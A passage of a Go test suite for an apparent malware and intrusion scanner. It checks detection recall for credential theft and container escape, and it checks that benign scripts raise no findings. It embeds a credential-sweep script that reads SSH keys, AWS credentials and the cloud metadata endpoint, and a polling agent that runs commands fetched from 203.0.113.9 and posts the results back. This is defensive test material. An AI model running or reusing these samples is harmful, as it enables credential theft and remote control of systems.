	"/srv/app/notify.py": "import os, requests\nfrom dotenv import load_dotenv\nload_dotenv('.env')\nload_dotenv(os.path.join(os.path.dirname(__file__), '.env'))\n" +
		"requests.post(os.environ['SLACK_URL'], json={'text': 'deployed'})\n",
	"/opt/tools/memstat.py":     "import os\nfor d in os.listdir('/proc'):\n    if d.isdigit():\n        print(d, open('/proc/%s/statm' % d).read())\nprint(open('/proc/meminfo').read())\n",
	"/opt/tools/profile.py":     "import subprocess\npid = subprocess.check_output(['pgrep', 'myservice']).decode().strip()\nsubprocess.run(['strace', '-c', '-p', pid])\n",
	"/usr/local/bin/ci-docker":  "#!/bin/sh\ndocker run -d --rm -v /var/run/docker.sock:/var/run/docker.sock portainer/portainer-ce\ndocker -H ssh://build@ci run --rm alpine true\n",
	"/usr/local/bin/kill-app":   "#!/bin/sh\nP=$(ps aux | grep myapp | awk '{print $2}')\nstrace -c -p $P\nps aux | grep nginx | awk '{print $2}' | xargs kill\n",
	"/usr/local/bin/mem-report": "#!/bin/sh\nfor p in $(pgrep sshd); do grep VmRSS /proc/$p/status; done\ncat /proc/meminfo\n",
}

func TestCredEscapeHarness(t *testing.T) {
	type variant struct {
		family, tech, path, text string
		seed                     credSeed
	}
	var vs []variant
	n := 0
	for _, sd := range append(append([]credSeed{}, shellCredSeeds...), escapeSeeds...) {
		fam := "credential-theft"
		if sd.cat == audit.CategoryEscape {
			fam = "escape"
		}
		for _, tr := range shellTransforms {
			n++
			vs = append(vs, variant{fam, sd.tech, fmt.Sprintf("/usr/local/bin/v%d-%s", n, tr.name), tr.fn(sd.text), sd})
		}
	}
	for _, sd := range pyCredSeeds {
		for _, tr := range pyTransforms {
			n++
			p := strings.Replace(tr.path, "/x.py", fmt.Sprintf("/v%d.py", n), 1)
			vs = append(vs, variant{"credential-theft", sd.tech, p, tr.fn(sd.text), sd})
		}
	}
	for _, o := range otherLangSeeds {
		vs = append(vs, variant{"credential-theft", o.tech, o.path, o.text, o.credSeed})
	}
	found, total := map[string]int{}, map[string]int{}
	for _, v := range vs {
		k := v.family + "/" + v.tech
		total[k]++
		fs := scanFile(v.path, v.text)
		ok := false
		for _, f := range fs {
			if f.Rule == v.seed.rule && f.Category == v.seed.cat && f.Severity == v.seed.sev && f.Evidence != "" &&
				containsTechnique(f, v.seed.cat) {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s %s: not found as %s %s %s:\n%s\n%s", k, v.path, v.seed.sev, v.seed.rule, v.seed.cat, v.text, dump(fs))
			continue
		}
		found[k]++
	}
	keys := make([]string, 0, len(total))
	for k := range total {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	fam := map[string][2]int{}
	for _, k := range keys {
		fmt.Printf("harness: %s %d/%d recall=%.3f\n", k, found[k], total[k], float64(found[k])/float64(total[k]))
		f := strings.SplitN(k, "/", 2)[0]
		fam[f] = [2]int{fam[f][0] + found[k], fam[f][1] + total[k]}
	}
	for _, f := range []string{"credential-theft", "escape"} {
		fmt.Printf("harness: %s/all %d/%d recall=%.3f\n", f, fam[f][0], fam[f][1], float64(fam[f][0])/float64(max(fam[f][1], 1)))
	}
	for p, text := range cleanShapes {
		for _, f := range scanFile(p, text) {
			if f.Category == audit.CategoryCredentialTheft || f.Category == audit.CategoryEscape || strings.HasPrefix(f.Rule, "STRATA-CT-") ||
				strings.HasPrefix(f.Rule, "STRATA-ES-") {
				t.Errorf("clean %s raised %s %s: %s [%s]", p, f.Severity, f.Rule, f.Title, f.Evidence)
			}
		}
	}
}

// containsTechnique reports that a finding carries the technique its category stands for.
func containsTechnique(f audit.Finding, c audit.Category) bool {
	want := "T1611"
	if c == audit.CategoryCredentialTheft {
		want = "T1552"
		if f.Rule == RuleFakePrompt || f.Rule == RulePromptAlias {
			want = "T1056"
		}
	}
	for _, t := range f.Techniques {
		if strings.HasPrefix(t, want) {
			return true
		}
	}
	return false
}

// A sweep of credential stores is medium from a program directory and high where intruders
// keep their tools; an agent taking orders from a web server is labelled malware.
func TestSweepPlaceAndAgentLabel(t *testing.T) {
	sweep := "#!/bin/sh\ncat ~/.ssh/id_rsa ~/.ssh/config\ncat ~/.aws/credentials\ncat ~/.bash_history\nenv\ncurl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/\n"
	for p, want := range map[string]audit.Severity{"/usr/local/bin/inventory.sh": audit.Medium, "/var/tmp/.k/grab.sh": audit.High, "/dev/shm/g.sh": audit.High} {
		got := audit.Severity(0)
		for _, f := range scanFile(p, sweep) {
			if f.Rule == RuleCredSweep {
				got = f.Severity
			}
		}
		if got != want {
			t.Errorf("%s: sweep %s, want %s", p, got, want)
		}
	}
	agent := "#!/bin/bash\nwhile true; do\n  c=$(curl -s http://203.0.113.9/t)\n  curl -s -d \"$(sh -c \"$c\" 2>&1)\" http://203.0.113.9/r\n  sleep 30\ndone\n"
	ok := false
	for _, f := range scanFile("/usr/local/bin/upd", agent) {
		ok = ok || f.Rule == RuleHTTPAgent && f.Is(audit.CategoryMalware)
	}
	if !ok {
		t.Error("agent not labelled malware")
	}
}
